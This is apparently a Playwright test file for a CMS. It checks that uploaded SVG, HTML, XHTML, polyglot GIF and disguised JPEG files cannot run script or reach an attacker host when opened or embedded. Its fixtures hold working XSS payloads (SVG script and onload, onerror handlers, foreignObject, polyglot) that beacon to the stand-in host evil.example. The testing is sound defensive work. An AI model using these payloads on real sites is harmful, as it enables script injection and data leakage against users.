// A CMS with files that would run or call home if they could: opened by their address, and embedded in a page.

import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

import { expect, hydrated, type Page, testWith } from './support/test.ts';

declare global {
  interface Window {
    /** Set by a file that has run. */
    injected?: number;
  }
}

const EVIL = 'https://evil.example';
const RUN = `window.injected=1;new Image().src='${EVIL}/ran'`;
const SVG = 'xmlns="http://www.w3.org/2000/svg" width="40" height="40"';
const HTML = `<!doctype html><script>${RUN}</script><img src="x:" onerror="${RUN}"><p>Hostile</p>`;

/** Files by name. */
const FILES: Record<string, { body: string; type: string; sent: string | null }> = {
  'script.svg': {
    type: 'image/svg+xml',
    sent: 'image/svg+xml',
    body: `<svg ${SVG}><script>${RUN}</script></svg>`,
  },
  'handler.svg': {
    type: 'image/svg+xml',
    sent: 'image/svg+xml',
    body: `<svg ${SVG} onload="${RUN}"><rect/></svg>`,
  },
  'foreign.svg': {
    type: 'image/svg+xml',
    sent: 'image/svg+xml',
    body: `<svg ${SVG}><foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml">
      <img src="x:" onerror="${RUN}"/><iframe src="${EVIL}/frame"/></body></foreignObject></svg>`,
  },
  'external.svg': {
    type: 'image/svg+xml',
    sent: 'image/svg+xml',
    body: `<svg ${SVG}><style>@import url(${EVIL}/style);</style><image href="${EVIL}/picture" width="40" height="40"/>
      <script href="/media/hostile/script.js"/><script href="${EVIL}/script"/><use href="${EVIL}/use#a"/></svg>`,
  },
  'page.html': { type: 'text/html', sent: null, body: HTML },
  'page.xhtml': {
    type: 'application/xhtml+xml',
    sent: null,
    body: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>${RUN}</script></head><body/></html>`,
  },
  'script.js': { type: 'text/javascript', sent: null, body: RUN },
  'style.css': { type: 'text/css', sent: null, body: `body{background:url(${EVIL}/background)}` },
  page: { type: 'text/html', sent: null, body: HTML },
  // A page under the name of a photograph, and a script that begins as a picture.
  'page.jpg': { type: 'text/html', sent: 'image/jpeg', body: HTML },
  'script.gif': { type: 'text/html', sent: 'image/gif', body: `GIF89a=1;${RUN}//<script>${RUN}</script>` },
};
const path = (name: string) => `/media/hostile/${name}`;

/** The files that run when they are opened with their own type. */
const RUNNING = Object.keys(FILES).filter((name) => !/\.(js|css)$/.test(name));

/** A text by an editor, or by somebody with an editor's password. */
const MARKUP = Object.keys(FILES)
  .map(path)
  .map(
    (
      src,
    ) => `<p>Hostile <img src="${src}" alt="${src}"></p><script src="${src}"></script><iframe src="${src}"></iframe>
<object data="${src}"></object><embed src="${src}"><link rel="stylesheet" href="${src}"><video src="${src}" poster="${src}"></video>
<svg><use href="${src}#a"></use><image href="${src}"></image></svg><p><a href="${src}">${src}</a></p>`,
  )
  .join('\n');

const ARTICLE = '/en/news/info/3039';

const test = testWith(async (content) => {
  await cp(fileURLToPath(new URL('../../content/', import.meta.url)), content, { recursive: true });
  await mkdir(join(content, 'media/hostile'));
  for (const [name, { body }] of Object.entries(FILES))
    await writeFile(join(content, 'media/hostile', name), body);
  const news = join(content, 'items/news/2-2026-autumn.toml');
  const toml = await readFile(news, 'utf8');
  const hostile = toml
    .replace('/media/documents/folder.svg', path('script.svg'))
    .replace(/^content = '''$/gm, (line) => `${line}\n${MARKUP}\n\n`);
  await writeFile(news, hostile);
  return { settings: { SELVAGE_EMBEDDED_CONTENT: content } };
});

/** Records the requests to the attacker's server. */
async function watch(page: Page): Promise<string[]> {
  const called: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    called.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: RUN });
  });
  return called;
}

const ran = (page: Page) => page.evaluate(() => window.injected);

// The browser reports each part of a file that it refuses.
test.beforeEach(({ tolerate }) => tolerate(/./));

test('the files run where nothing prevents it', async ({ visit }) => {
  const { page } = await visit();
  const called = await watch(page);
  await page.route('**/media/**', (route) => {
    const file = FILES[route.request().url().split('/').pop() ?? ''];
    return file ? route.fulfill({ contentType: file.type, body: file.body }) : route.fallback();
  });
  for (const name of RUNNING) {
    called.length = 0;
    await page.goto(path(name));
    await expect.poll(() => called.length, name).toBeGreaterThan(0);
  }
});

test('a file that is opened does nothing', async ({ visit }) => {
  const { page } = await visit();
  const called = await watch(page);
  for (const [name, { sent }] of Object.entries(FILES)) {
    const answer = await page.request.get(path(name));
    const headers = answer.headers();
    expect(answer.status(), name).toBe(200);
    expect(headers['content-type'], name).toBe(sent ?? 'application/octet-stream');
    expect(headers['content-disposition'], name).toBe(sent ? undefined : `attachment; filename="${name}"`);
    expect(headers['x-content-type-options'], name).toBe('nosniff');
    expect(headers['content-security-policy'], name).toContain('sandbox');
    if (sent) {
      await page.goto(path(name));
      expect(await ran(page), name).toBeUndefined();
    } else {
      const download = page.waitForEvent('download');
      await page.goto(path(name)).catch(() => {});
      expect((await download).suggestedFilename()).toBe(name);
    }
  }
  expect(called).toEqual([]);
});

test('files that a page embeds do nothing', async ({ visit }) => {
  const { page } = await visit();
  const called = await watch(page);
  const expectHarmless = async () => {
    await expect(page.locator('main')).toContainText('Hostile');
    expect(await ran(page)).toBeUndefined();
    await expect(page.locator('iframe, object, embed, main script, main link, main video')).toHaveCount(0);
    expect(called).toEqual([]);
  };
  await page.goto(ARTICLE);
  await hydrated(page);
  await expectHarmless();
  await page.locator('header a[href="/en/news/list"]').first().click();
  await page.waitForURL('**/news/list');
  await page.locator(`main a[href="${ARTICLE}"]`).first().click();
  await page.waitForURL(`**${ARTICLE}`);
  await expectHarmless();
});

test('a page that somebody has got into still refuses the files', async ({ visit }) => {
  const { page } = await visit();
  const called = await watch(page);
  await page.goto('/en');
  await hydrated(page);
  await page.evaluate((paths) => {
    for (const src of paths) {
      for (const element of [
        Object.assign(document.createElement('iframe'), { src }),
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: src }),
        Object.assign(document.createElement('img'), { src }),
      ])
        document.body.append(element);
    }
  }, Object.keys(FILES).map(path));
  // Importing is the only way to a script without Trusted Types; as a text, because the tests' compiler would replace it.
  for (const name of Object.keys(FILES))
    expect(await page.evaluate(`import('${path(name)}').then(() => 'run', () => 'refused')`), name).toBe(
      'refused',
    );
  expect(await ran(page)).toBeUndefined();
  expect(called).toEqual([]);
});
